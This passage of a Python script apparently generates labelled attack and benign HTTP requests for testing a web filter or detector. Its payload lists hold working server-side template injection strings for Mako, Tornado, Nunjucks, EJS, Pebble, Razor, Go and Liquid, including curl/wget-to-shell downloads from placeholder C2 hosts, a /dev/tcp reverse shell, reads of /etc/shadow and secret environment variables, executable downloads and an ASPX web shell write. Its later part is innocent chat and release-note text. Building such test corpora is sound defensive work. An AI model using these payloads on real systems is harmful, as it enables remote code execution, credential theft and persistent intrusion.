    f"<%\nimport os\nos.system('wget -qO- {C2B}/mako|sh')\n%>",
    "${''.__class__.__mro__[-1].__subclasses__()}",
]

# tornado (target: Python Tornado apps rendering template.Template(user input))
TORNADO: list[Entry] = [
    "{% import os %}{{os.popen('id').read()}}",
    f"{{{{__import__('os').system('curl {C2A}/tn|sh')}}}}",
    "{{handler.settings}}",
    "{{handler.application.settings['cookie_secret']}}",
    "{% raw __import__('os').popen('cat /etc/passwd').read() %}",
    f"{{% apply __import__('os').system %}}wget -qO- {C2C}/t|sh{{% end %}}",
    "{% set x = __import__('subprocess').check_output('id') %}{{x}}",
    "{% import subprocess %}{{subprocess.getoutput('uname -a')}}",
    "{{handler.request.headers}}",
]

# nunjucks (target: Node.js apps rendering nunjucks.renderString(user input))
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('curl " + C2A +
    "/nj|sh')\")() }}",
    "{{joiner.constructor(\"return process.env\")()}}",
    "{{ \"\".constructor.constructor(\"return this.process\")().mainModule.require(\"fs\")"
    ".readFileSync(\"/etc/passwd\",\"utf8\") }}",
    "{% set x = range.constructor(\"return global.process.mainModule.require('child_process').execSync('wget -qO- " +
    C2B + "/n|sh')\")() %}{{x}}",
    "{{cycler.constructor(\"return global.process.mainModule.require('child_process').execSync('cat /etc/shadow')"
    "\")()}}",
    "{{ [].constructor.constructor(\"return process.mainModule.require('os').userInfo()\")() }}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('nslookup nj." +
    OOB + "')\")()}}",
    "{{7*7}}{{range.constructor(\"return this\")()}}",
]

# ejs (target: Express apps rendering ejs.render(user input), the settings[view options] leak, EJS pollution)
EJS: list[Entry] = [
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    "<%- process.mainModule.require('fs').readFileSync('/etc/passwd') %>",
    ('{"__proto__":{"outputFunctionName":"_tmp1;global.process.mainModule.require(\'child_process\').exec(\'bash -c'
     f" \\\"bash -i >& /dev/tcp/{C2D}/4444 0>&1\\\"');var __tmp2\"}}}}", *JB),
    kv("settings[view%20options][outputFunctionName]=x;process.mainModule.require('child_process').execSync("
       f"'curl%20{C2A}/ejs|sh');s"),
    ('{"__proto__":{"client":1,"escapeFunction":"JSON.stringify; process.mainModule.require(\'child_process\')'
     '.exec(\'id\')"}}', *JB),
    "<%= require('child_process').execSync('cat /etc/shadow') %>",
    kv("settings[view%20options][client]=true&settings[view%20options][escapeFunction]=1;return%20global.process."
       "mainModule.constructor._load('child_process').execSync('id');"),
    f"<% global.process.mainModule.require('child_process').exec('wget -qO- {C2B}/e|sh') %>",
    "<%= process.env.AWS_SECRET_ACCESS_KEY %>",
]

# pebble (target: Java apps with Pebble templates)
PEBBLE: list[Entry] = [
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ \"\".getClass().forName(\"java.lang.Runtime\").getMethods()[6].invoke(\"\".getClass().forName("
    "\"java.lang.Runtime\")).exec(\"curl " + C2A + "/pb|sh\") }}",
    "{% set rt = (1).TYPE.forName('java.lang.Runtime') %}{{ rt.methods[6].invoke(null,null).exec('touch /tmp/pb') }}",
    "{{ request.servletContext.classLoader }}",
    "{{ beans.get(\"applicationContext\").getEnvironment().getProperty(\"spring.datasource.password\") }}",
    "{% set x = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('wget " + C2B +
    "/p -O /tmp/p') %}",
    "{{ (1).TYPE.forName('java.lang.System').getenv() }}",
    "{{ ''.class.forName('java.lang.Runtime').getRuntime().exec('nslookup pebble." + OOB + "') }}",
]

# razor (target: ASP.NET apps compiling user strings with RazorEngine)
RAZOR: list[Entry] = [
    "@(7*7)",
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c powershell -nop -w hidden -c \\\"IEX(New-Object "
    f"Net.WebClient).DownloadString('http://{C2A}/a.ps1')\\\"\")",
    "@{ System.Diagnostics.Process.Start(\"cmd.exe\", \"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt\"); }",
    "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")",
    "@System.IO.Directory.GetFiles(\"C:\\\\inetpub\\\\wwwroot\")",
    "@System.Environment.GetEnvironmentVariables()",
    "@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.Arguments = "
    "\"/c certutil -urlcache -split -f http://" + C2B + "/x.exe %TEMP%\\\\x.exe\"; p.Start(); }",
    "@(new System.Net.WebClient().DownloadFile(\"http://" + C2C + "/m.exe\",\"C:\\\\Windows\\\\Temp\\\\m.exe\"))",
    "@System.IO.File.WriteAllText(\"C:\\\\inetpub\\\\wwwroot\\\\s.aspx\",\"<%@ Page Language=\\\"C#\\\" %><% "
    "System.Diagnostics.Process.Start(Request[\\\"c\\\"]); %>\")",
]

# go-templates (target: Go text/template and html/template executed on user input, Hugo, Sprig functions)
GO_TPL: list[Entry] = [
    "{{.}}",
    "{{printf \"%#v\" .}}",
    "{{ env \"AWS_SECRET_ACCESS_KEY\" }}",
    "{{ os.Getenv \"DATABASE_URL\" }}",
    "{{ readFile \"/etc/passwd\" }}",
    "{{ expandenv \"$HOME $PATH\" }}",
    "{{define \"T1\"}}<script>alert(document.cookie)</script>{{end}}{{template \"T1\"}}",
    "{{range .Users}}{{.Email}}:{{.Password}} {{end}}",
    "{{ .System \"id\" }}",
]

# liquid (target: Shopify/Jekyll/LiquidJS templates from user input: file include, data leak, loops)
LIQUID: list[Entry] = [
    "{{ 7 | times: 7 }}",
    "{% include '../../../../etc/passwd' %}",
    "{% include_relative ../../../../../etc/passwd %}",
    "{% for i in (1..999999999) %}{% for j in (1..999999999) %}x{% endfor %}{% endfor %}",
    "{{ site.data | jsonify }}",
    "{% render '/etc/passwd' %}",
    "{{ settings | json }}",
    "{{ 'x' | append: 'y' | times: 9999999999999 }}{% assign a = (1..99999999) %}{{ a | join }}",
    "{% capture c %}{% include '/proc/self/environ' %}{% endcapture %}{{ c }}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE_INJ),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_META),
    ("generic", "ssrf-internal-ip", SSRF_INT),
    ("generic", "javascript-prototype-pollution", POLLUTION),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_NAMES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SER),
    ("java", "deserialization-gadgets", GADGETS),
    ("java", "log4shell", LOG4SHELL),
    ("java", "expression-language", EL),
    ("java", "polymorphic-deserialization", POLY),
    ("java", "class-loading", CLASSLOAD),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB_T),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TPL),
    ("ssti", "liquid", LIQUID),
]
BINARY_SUBS = {"java-serialization", "deserialization-gadgets"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = ["q", "url", "name", "template", "data", "callback", "file", "search", "message", "redirect"]
    raw_places = ("query", "form", "param-name", "cookie", "rs-query", "rs-form", "rs-param-name", "rs-raw-body",
                  "rs-cookie")
    documents = True
    unique = True
    xml_controls = "\n\t"

    def upload_body(self, filename: str) -> str:
        """An upload named like a JSP carries the web shell; any other the set's small file."""
        return JSP_SHELL if ".jsp" in filename.lower() else self.upload

    def is_latin(self, sub: str, payload: str) -> bool:
        return sub in BINARY_SUBS and any(ord(ch) > 126 or ord(ch) < 32 for ch in payload)

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return fixed and payload in RAW

    def _raw(self, p: Put) -> str:
        # a captured query string keeps its own encoding: only what would break the request is quoted
        return self.enc(p.v, False, self.kv_safe + "%+?")

    def _p_rs_raw_body(self, p: Put) -> Record:
        if p.raw:   # a captured body goes as the bot sent it
            return request("POST", p.path, self._raw(p), FORM)
        return super()._p_rs_raw_body(p)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios about logs, incidents, honeypots and the bugs,
# release notes, searches, links to advisories and docs, profiles, upload names, ordinary headers)
CHAT = [
    # incident and on-call chat about what the logs show
    "the honeypot caught another log4shell wave overnight, mostly from the same two ASNs as last week",
    "nothing reached the app, the edge dropped all of it; I'll attach the summary to the incident ticket",
    "we still see jndi strings in user agents every day, three years after the CVE",
    "heads up: the Spring4Shell scanners are back, they hit /login with class.module.* parameters",
    "the Confluence OGNL probes in the access log are noise for us, we don't run Confluence",
    "is anyone looking at the spike of requests to /solr/admin/cores? looks like the old Velocity exploit scan",
    "patched the Jenkins controller to 2.452, the script console is admin-only anyway",
    "post-mortem draft is up: root cause was an SSRF in the PDF renderer fetching the metadata endpoint",
    "IMDSv2 is now enforced on every instance, hop limit 1, so the metadata SSRF class is closed",
    "someone asked why our WAF blocks 169.254.169.254 in a webhook URL field - that's why",
    "the crypto-miner we found on the old staging box was kinsing, it came in through an exposed Docker API",
    "rotated the AWS keys that were in the .env of the legacy service, just in case",
    "weekly honeypot digest: 41% log4shell, 22% PHP probes, the rest is Mirai-style telnet and router exploits",
    "the fastjson autoType issue doesn't affect us, we're on Jackson with default typing off",
    "Jackson polymorphic typing stays disabled, please don't add @JsonTypeInfo with Id.CLASS to DTOs",
    "reminder: never deserialize untrusted data with ObjectInputStream, use JSON with explicit types",
    "ysoserial came up in the security training, good explanation of the commons-collections gadget chain",
    "the WebLogic T3 port isn't exposed anywhere, checked the security groups this morning",
    # developers talking about templates and code
    "Jinja2 autoescape is on for all HTML templates, only the email subject uses a plain Template",
    "does anyone know if Twig's sandbox extension is still maintained? we want users to write invoice templates",
    "Freemarker's new_builtin_class_resolver is set to SAFER_RESOLVER in the report service now",
    "switched the notification emails from Handlebars to Liquid because the marketing team knows it from Shopify",
    "in Thymeleaf use th:text not th:utext unless you really mean raw HTML",
    "ERB in the mailer previews is fine, it's our own templates, not user input",
    "the pug templates in the admin are compiled at build time, nothing renders user strings",
    "nunjucks autoescape true, and we never pass user input as the template itself",
    "EJS 3.1.10 upgrade is merged, it fixes the outputFunctionName advisory",
    "Go html/template escapes for us, just don't convert user input to template.HTML",
    "Razor pages migration is done, the old WebForms admin is gone",
    "Mako is only used by the alembic migration templates, so no exposure there",
    "Tornado's template module isn't in our stack anymore, removed with the websocket service",
    "Pebble is what the Java team picked for the PDF invoices, strict variables on",
    "the Smarty templates in the old shop plugin are being replaced, ticket SHOP-412",
    "Velocity templates in the Confluence export are not ours to patch, Atlassian's call",
    # generic, Node.js, Ruby, Perl code talk
    "child_process.execFile with an argument array is fine, it's exec with a string that's dangerous",
    "we replaced eval() in the rules engine with a small JSON expression evaluator",
    "the vm module is not a security boundary, the Node docs say so in bold",
    "lodash merge prototype pollution was fixed in 4.17.21, bump it in the frontend too",
    "Object.create(null) for the lookup map, so __proto__ keys can't hurt us",
    "the ReDoS in the email regex took the worker down for 30 seconds, replaced it with a simple split",
    "qs arrayLimit is 20 by default, nobody should send a[1000] anyway",
    "Ruby's Kernel#open with a pipe is why rubocop flags it, use File.open",
    "YAML.safe_load everywhere in the Rails app now, Psych 4 made it the default anyway",
    "the Perl CGI scripts on the old intranet box are finally archived",
    "use URI.open for URLs and File.read for files in Ruby, never open() on user input",
    "SnakeYAML 2.0 defaults to SafeConstructor, upgrade is in the Java service PR",
    "data: URLs are blocked in the image proxy, it only accepts https",
    "the import job can fetch from file:// in dev only, it's disabled in production config",
    # support and ordinary users
    "hi, my upload named deploy_notes.jsp.txt was rejected, can I rename it and try again?",
    "customer says the webhook URL http://localhost:3000/hook doesn't work from our side - expected, it's their laptop",
    "a user pasted {{first_name}} into the greeting field and it rendered literally, is that a bug?",
    "Our template variables use ${customer.name} syntax in the email editor, is that supported?",
    "I typed <%= in the comment box by accident and the preview looked weird",
    "the team name field doesn't accept curly braces, is that intended?",
    "the profile bio says 'Java, Spring, Thymeleaf' and the save button spins forever",
    # release notes
    "release 4.12: Log4j removed from the reporting service, logging moved to logback",
    "release 4.13: SSRF protection for webhook URLs (private, loopback and link-local ranges refused)",
    "release 4.14: the template editor now renders in a sandbox without access to globals",
]

BIOS_EXTRA = [
    "Java backend engineer. Spring, Kafka, and too many Log4j upgrades.",
    "Security researcher, I run a small honeypot network and publish the weekly digests",
    "Node.js and TypeScript, occasionally Ruby on Rails",
    "Perl hacker since 1998, now mostly Go",
    "SRE. Incidents, post-mortems, and IMDSv2 evangelism.",
]

SEARCHES = [
    "java", "spring", "log4j", "jndi", "ruby", "perl", "node", "jenkins", "struts", "freemarker",
    "velocity", "thymeleaf", "jinja", "twig", "smarty", "handlebars", "pug", "mako", "tornado", "nunjucks",
    "ejs", "pebble", "razor", "liquid", "go", "metadata", "localhost", "proto", "constructor", "yaml",
    "groovy", "weblogic", "fastjson", "jackson", "xstream", "c3p0", "rome", "hibernate", "spring boot team",
    "honeypot",
]

URLS = [
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
    "https://spring.io/security/cve-2022-22965",
    "https://confluence.atlassian.com/doc/confluence-security-advisory-2022-06-02-1130377146.html",
    "https://cwiki.apache.org/confluence/display/WW/S2-045",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://cloud.google.com/compute/docs/metadata/querying-metadata",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://portswigger.net/web-security/server-side-template-injection",
    "https://portswigger.net/web-security/prototype-pollution",
    "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html",
    "https://cheatsheetseries.owasp.org/cheatsheets/Server_Side_Request_Forgery_Prevention_Cheat_Sheet.html",
    "https://jinja.palletsprojects.com/en/3.1.x/sandbox/",
    "https://freemarker.apache.org/docs/api/freemarker/core/TemplateClassResolver.html",
    "https://twig.symfony.com/doc/3.x/api.html#sandbox-extension",
    "https://nodejs.org/api/vm.html",
    "https://github.com/FasterXML/jackson-docs/wiki/JacksonPolymorphicDeserialization",
    "https://ruby-doc.org/3.3/stdlibs/psych/Psych.html#method-c-safe_load",
    "https://perldoc.perl.org/functions/open",
    "https://blog.example.com/2024/05/what-our-honeypot-saw-in-april",
]

PROSE = [
    "Incident 2024-117: SSRF attempt against the metadata endpoint, no data accessed",
    "Post-mortem: Log4j JNDI lookup in the legacy reporting service",
    "Honeypot weekly digest - Java deserialization and template injection",
    "Release notes 4.13: webhook URL validation",
    "Why we disabled Jackson default typing",
    "Spring Boot 3.2 upgrade checklist",
    "Jenkins script console access review",
    "Confluence is not in scope for this audit",
    "WebLogic decommissioning plan",
    "Template editor: which syntax do we support? {{ }} only",
    "Handlebars helpers allowed in customer templates",
    "Liquid filters allowed in the email builder: upcase, downcase, date",
    "Thymeleaf fragment naming conventions",
    "FreeMarker vs Velocity for the PDF reports",
    "Prototype pollution review of the settings merge function",
    "ReDoS review of the validation regexes",
    "Ruby YAML.load replaced by safe_load in all jobs",
    "Perl CGI retirement, phase 2",
    "Node.js 20 upgrade: child_process and fs deprecations",
    "IMDSv2 rollout status per account",
    "Docker API exposure check on build hosts",
    "Redis protected-mode and bind address audit",
    "Cryptominer cleanup on staging-3, timeline",
    "Mirai-style telnet scans against the office router",
    "Webshell scan of the upload directory: clean",
    "JSP files are not served from the uploads bucket",
    "Java serialization filter (jdk.serialFilter) rollout",
    "Shiro rememberMe key rotation - the old default key is gone",
    "Struts 2 apps inventory: none left",
    "Solr admin UI access restricted to VPN",
    "data: URI handling in the image proxy",
    "gopher and dict schemes removed from the URL fetcher allowlist",
    "localhost and 127.0.0.1 webhooks rejected with a clear error message",
    "Go text/template vs html/template in the status page",
    "Razor view compilation at build time",
    "Pebble strict mode for invoices",
    "Mako templates only in alembic",
    "EJS upgrade to 3.1.10",
    "Smarty plugin replacement ticket SHOP-412",
    "nunjucks autoescape audit",
]

PROFILES = [
    ("Jenkins Family Bakery", "Mill Lane 3, York"),
    ("Ruby Perl", "Gem Street 12, Antwerp"),
    ("Tomcat Rescue Shelter", "Cat Alley 9, Bristol"),
    ("Spring Valley Farm", "Valley Rd 101, Napa"),
    ("Velocity Cycling Club", "Track St 5, Ghent"),
    ("Liquid Assets Ltd", "Finance Sq 2, London"),
    ("Pebble Beach Rentals", "Ocean Dr 44, Monterey"),
    ("Razor Sharp Barbers", "High St 88, Glasgow"),
    ("Java Junction Coffee", "Bean Blvd 7, Seattle"),
    ("Node Networks GmbH", "Netzstrasse 4, Berlin"),
    ("Pug Lovers Club", "Park Lane 6, Brighton"),
    ("Mako Surf School", "Beach Rd 1, Gold Coast"),
    ("Tornado Alley Storm Chasers", "Prairie Ave 12, Norman"),
    ("Twig & Leaf Florist", "Garden Row 3, Bath"),
    ("Handlebar Bike Repair", "Spoke St 21, Utrecht"),
    ("Jinja Safari Tours", "Main St 5, Jinja"),
    ("Metadata Consulting", "Data Park 8, Dublin"),
    ("Thyme & Leaf Bistro", "Herb Rd 19, Lyon"),
    ("Apache Junction Motors", "Route 60, Apache Junction"),
    ("Struts & Braces Tailoring", "Savile Row 15, London"),
]

UPLOAD_NAMES = [
    "honeypot-digest-2024-05.pdf", "log4j-upgrade-plan.docx", "incident-2024-117-timeline.xlsx",
    "spring-boot-3.2-checklist.md", "jenkins-backup-config.xml", "template_invoice.ftl.txt", "email_header.liquid",
    "welcome.hbs", "report.vm.txt", "layout.pug.txt", "users_export.csv", "team-photo.jpg",
    "jsp_migration_notes.txt", "serialization-filter.properties", "imdsv2-rollout.csv", "redis-audit.pdf",
    "perl-cgi-inventory.ods", "ruby_yaml_safe_load.diff", "nodejs-20-upgrade.pdf", "status-page-template.txt",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.11)"),
    ("User-Agent", "Java/21.0.3"),
    ("User-Agent", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"),
    ("User-Agent", "Ruby"),
    ("User-Agent", "libwww-perl/6.72"),
    ("User-Agent", "Jenkins/2.452.1"),
    ("Referer", "https://logging.apache.org/log4j/2.x/security.html"),
    ("Referer", "https://app.example.com/admin/users?q=spring"),
    ("Referer", "https://www.google.com/search?q=jinja2+sandbox+environment"),
    ("Referer", "https://docs.spring.io/spring-framework/reference/core/expressions.html"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "7d2e1c4a-9b3f-4a6e-8c51-2f0e9d4b6a13"),
    ("Accept-Language", "pt-BR,pt;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; template=classic; theme=dark"),
    ("Cookie", "session=abc123; last_search=jenkins; tz=Europe%2FBerlin"),
    ("Cookie", "session=abc123; JSESSIONID=8F3A2B1C4D5E6F708192A3B4C5D6E7F8"),
    ("If-None-Match", "W/\"9c1d-18f2a7e4\""),
    ("X-Forwarded-For", "198.51.100.77"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT + BIOS_EXTRA, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
